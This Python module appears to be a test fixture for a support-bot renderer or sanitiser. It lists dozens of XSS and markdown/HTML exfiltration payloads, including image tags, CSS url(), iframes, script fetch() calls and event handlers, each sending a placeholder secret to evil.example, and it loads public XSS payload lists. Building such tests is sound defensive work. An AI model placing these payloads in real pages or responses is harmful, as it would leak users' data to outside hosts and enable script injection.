"""Hostile words: strings that become script, or carry words away, where they are not shown as text."""

import json
import os
from collections.abc import Iterator
from pathlib import Path

ELSEWHERE = "evil.example"
SECRET = "SECRET-4711"
_URL = f"https://{ELSEWHERE}/?d={SECRET}"
DATA = Path(os.environ.get("SUPPORTBOT_SETS", Path(__file__).parents[3] / "shared" / "data")) / "xss_strings"

# What would carry words away: every way we know of making a page ask a foreign host for something.
CARRIERS = (
    f"![a]({_URL})",
    f"![a][r]\n\n[r]: {_URL}",
    f"[![a]({_URL})]({_URL})",
    f"<img src={_URL}>",
    f"<img srcset='{_URL} 2x'>",
    f"<picture><source srcset={_URL}></picture>",
    f"<video poster={_URL} src={_URL} autoplay>",
    f"<audio src={_URL} autoplay>",
    f"<link rel=stylesheet href={_URL}>",
    f"<link rel=preload as=image href={_URL}>",
    f"<link rel=dns-prefetch href=//{SECRET}.{ELSEWHERE}>",
    f"<style>@import url({_URL});</style>",
    f"<style>*{{background:url({_URL})}}</style>",
    f"<p style='background:url({_URL})'>",
    f"<p style='background:\\75rl({_URL})'>",
    f"<iframe src={_URL}></iframe>",
    f"<iframe srcdoc='<img src={_URL}>'></iframe>",
    f"<object data={_URL}></object>",
    f"<embed src={_URL}>",
    f"<svg><image href={_URL} /></svg>",
    f"<svg><use href={_URL}#a /></svg>",
    f"<svg><feImage href={_URL} /></svg>",
    f"<math href={_URL}>x</math>",
    f"<form action={_URL}><button>Go</button></form>",
    f"<meta http-equiv=refresh content='0;url={_URL}'>",
    f"<base href={_URL}>",
    f"<body background={_URL}>",
    f"<table background={_URL}><td background={_URL}>",
    f"<input type=image src={_URL}>",
    f"<script src={_URL}></script>",
    f"<script>fetch('{_URL}')</script>",
    f"<img src=x onerror=fetch('{_URL}')>",
    f"<svg onload=fetch('{_URL}')>",
    f"<a ping={_URL} href=/>x</a>",
    f"[x](javascript:fetch('{_URL}'))",
    f"[x](//{ELSEWHERE}/?d={SECRET})",
    f"[x](\\\\{ELSEWHERE}\\{SECRET})",
    f"<{_URL}>",
    _URL,
    f"[x](data:text/html,<script>fetch('{_URL}')</script>)",
    f"[x](https://user@{ELSEWHERE}/{SECRET})",
    f"![a](//{ELSEWHERE}/{SECRET})",
    f"![a](http://{ELSEWHERE}/{SECRET} 'title')",
    f"![a](<{_URL}>)",
    f"|![a]({_URL})|b|\n|-|-|\n|c|d|",
    f"- ![a]({_URL})\n  - <img src={_URL}>",
    f"> ![a]({_URL})",
    f"# ![a]({_URL})",
    f"```html\n<img src={_URL}>\n```",
    f"&lt;img src={_URL}&gt;",
    f"\u003cimg src={_URL}\u003e",
    f"<img\u00a0src={_URL}>",
    f"<img/src={_URL}>",
    f"<IMG SRC={_URL}>",
    f"<image src={_URL}>",
    f"<portal src={_URL}></portal>",
    f"<track src={_URL}>",
    f"<noscript><img src={_URL}></noscript>",
    f"<template><img src={_URL}></template>",
    f"<xss style=list-style-image:url({_URL})>",
    f"<button popovertarget=x onclick=fetch('{_URL}')>x</button>",
    f"<input autofocus onfocus=fetch('{_URL}')>",
    f"<details open ontoggle=fetch('{_URL}')>",
)


def strings() -> list[str]:
    """Return the carriers and, where they are, the public lists of hostile strings."""
    return [*CARRIERS, *_listed()]


def _listed() -> Iterator[str]:
    if not DATA.is_dir():
        return
    yield from json.loads((DATA / "blns.json").read_text(encoding="utf-8"))
    with (DATA / "dompurify_expect.jsonl").open(encoding="utf-8") as lines:
        yield from (json.loads(line)["payload"] for line in lines)
    payloads = DATA / "payloadbox_xss.txt"
    if payloads.is_file():
        yield from payloads.read_text(encoding="utf-8", errors="replace").splitlines()
